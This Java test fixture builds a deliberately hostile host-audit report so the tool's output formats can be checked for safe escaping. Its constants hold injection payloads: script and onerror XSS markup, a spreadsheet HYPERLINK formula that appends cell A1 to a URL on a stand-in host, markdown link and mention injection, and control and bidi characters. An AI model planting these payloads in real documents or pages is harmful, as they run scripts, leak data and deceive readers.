package io.plumbline.formats;

import io.plumbline.model.Fact;
import io.plumbline.model.FactRef;
import io.plumbline.model.FileVersion;
import io.plumbline.model.Finding;
import io.plumbline.model.HostIdentity;
import io.plumbline.model.OperatingSystem;
import io.plumbline.model.PackVersion;
import io.plumbline.model.ProbeOutcome;
import io.plumbline.model.ProbeRun;
import io.plumbline.model.Reading;
import io.plumbline.model.Report;
import io.plumbline.model.Result;
import io.plumbline.model.Severity;
import io.plumbline.model.SubjectResult;
import io.plumbline.model.Value;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/** A report of a host that means harm: each of its texts would act in some format, and some are 64 KiB long. */
public final class HostileReport {

    static final String MARKUP =
            "</td></script><script>window.pwned=1</script><img src=x onerror=\"window.pwned=1\">'\"&amp;]]>";
    static final String FORMULA = "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"click\")";
    static final String MARKDOWN =
            "](http://192.0.2.1) ![x](http://192.0.2.1/x.png) <img src=x> | `` # @everyone www.example.com 1. x";
    static final String CONTROLS = "\u202Egnp.exe\u0000\u001b[2J\r\n# HELP planted\u2028\ud800 \ufffe";
    static final String LONG = "w\"<".repeat(64 * 1024 / 3);

    private HostileReport() {}

    public static Report report() {
        List<Finding> findings = new ArrayList<>();
        List<Fact> facts = new ArrayList<>();
        int number = 0;
        for (String text : List.of(MARKUP, FORMULA, MARKDOWN, CONTROLS, LONG)) {
            FactRef ref = FactRef.of("file", subject(text), "version");
            Fact shown = new Fact(ref, Reading.present(new Value.Text(text)), text);
            Fact refused = new Fact(FactRef.of("netbt", "x"), Reading.failed(5, text), text);
            facts.add(new Fact(ref, Reading.present(new Value.Version(new FileVersion(6, 0, 6000, number))), text));
            for (Result result : Result.values()) {
                findings.add(new Finding(
                        "hostile-" + number++,
                        1,
                        text,
                        Severity.HIGH,
                        result,
                        text,
                        List.of(
                                new SubjectResult(text, result, text),
                                new SubjectResult("+" + text, Result.PASS, "-" + text)),
                        List.of(shown, refused)));
            }
        }
        Report sample = SampleReport.mixed();
        return new Report(
                sample.report(),
                new HostIdentity(
                        "0123456789abcdef",
                        MARKUP,
                        new OperatingSystem(FORMULA, MARKDOWN, CONTROLS, MARKUP, "@x", "\tx", "-x")),
                "0.1.0",
                List.of(new PackVersion("name-resolution", "2026.1")),
                findings,
                facts,
                List.of(new ProbeRun("adapter", ProbeOutcome.FAILED, Duration.ofSeconds(1), MARKUP)));
    }

    private static String subject(String text) {
        String subject = text.replaceAll("\\p{Cntrl}", "");
        return subject.substring(0, Math.min(FactRef.MAX_SUBJECT, subject.length()));
    }
}
